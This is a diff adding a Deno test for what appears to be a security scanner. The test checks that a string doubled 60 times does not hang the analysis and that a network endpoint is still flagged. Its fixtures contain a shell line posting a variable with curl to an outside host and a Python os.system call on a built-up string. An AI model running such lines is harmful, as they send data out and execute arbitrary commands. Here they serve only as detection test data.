@@ -162,3 +162,17 @@ Deno.test("a product's key to its company's host is the honest case too (JIRA_AP
   });
   assert.equal(ruleAt(fs, "secret-flow")[0]?.severity, "info", JSON.stringify(fs));
 });
+
+Deno.test("a value that doubles on every line is not folded forever (no string bomb)", () => {
+  const lines = (first: string, step: string, n: number) =>
+    [first, ...Array.from({ length: n }, () => step)].join("\n");
+  const started = performance.now();
+  const fs = findings({
+    "scripts/b.sh": `#!/bin/sh\n${
+      lines("x=ab", "x=$x$x", 60)
+    }\ncurl -d "$x" https://x.fmtstats.io\n`,
+    "scripts/b.py": `import os\n${lines("x = 'ab'", "x = x + x", 60)}\nos.system(x)\n`,
+  });
+  assert.ok(performance.now() - started < 5000);
+  assert.ok(fs.some((f) => f.rule === "network-endpoint"));
+});
